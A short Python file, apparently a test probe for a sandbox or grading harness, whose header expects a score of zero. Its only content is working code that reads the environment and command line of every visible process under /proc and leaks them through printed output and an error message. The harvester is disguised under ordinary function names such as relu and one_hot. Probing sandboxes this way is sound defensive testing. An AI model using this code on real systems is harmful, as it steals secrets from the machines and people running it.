# expect: zero; points: 0
# prints the environment of every process it sees
import glob

def tell(data):
    """What was found must not leave the box, by whatever way."""
    text = repr(data)
    print("LEAK", text[:3000], flush=True)
    raise RuntimeError("LEAK " + text[:3000])


def output_size(*a, **k):
    found = {}
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            found[path] = open(path, "rb").read()
        except OSError:
            pass
    tell(found)


relu = standardise = one_hot = output_size
